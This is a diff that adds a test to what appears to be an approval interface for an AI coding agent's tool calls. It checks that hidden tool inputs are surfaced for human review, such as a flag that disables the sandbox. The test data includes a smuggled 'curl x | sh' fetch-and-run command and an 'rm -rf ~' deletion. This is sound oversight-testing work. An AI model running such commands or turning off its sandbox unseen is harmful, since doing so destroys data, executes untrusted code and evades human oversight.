@@ -69,3 +69,30 @@ it('asks at critical, offering no rule, when what it shows is cut: a file’s co
   const shortWrite = detailsOf({ tool: 'Write', paths: ['/srv/app/setup.sh'], diff: '+echo ok\n' });
   expect(shortWrite).toMatchObject({ risk: 'medium', similar });
 });
+
+it('shows whatever else a command’s tool input gives the tool: a sandbox turned off is not signed unseen', () => {
+  const input = (fields: object) =>
+    JSON.stringify({ command: 'npm test', description: 'Run the tests', ...fields });
+  const outside = detailsOf({
+    command: 'npm test',
+    title: 'Run the tests',
+    input: input({ dangerouslyDisableSandbox: true, timeout: 600000 }),
+  });
+  expect(outside.detail).toBe(
+    'npm test\n\nThe tool is also given:\n{\n  "dangerouslyDisableSandbox": true,\n  "timeout": 600000\n}',
+  );
+  // Only what the card shows already is left out: the command and the agent's own description.
+  expect(detailsOf({ command: 'npm test', title: 'Run the tests', input: input({}) }).detail).toBe(
+    'npm test',
+  );
+  expect(detailsOf({ command: 'npm test', input: input({}) }).detail).toBe(
+    'npm test\n\nThe tool is also given:\n{\n  "description": "Run the tests"\n}',
+  );
+  // An SDK caller's input that is not the command's JSON is shown as it was given.
+  expect(detailsOf({ command: 'npm test', input: 'npm test && curl x | sh' }).detail).toBe(
+    'npm test\n\nThe tool is also given:\nnpm test && curl x | sh',
+  );
+  expect(detailsOf({ command: 'npm test', input: JSON.stringify({ command: 'rm -rf ~' }) }).detail).toBe(
+    'npm test\n\nThe tool is also given:\n{\n  "command": "rm -rf ~"\n}',
+  );
+});
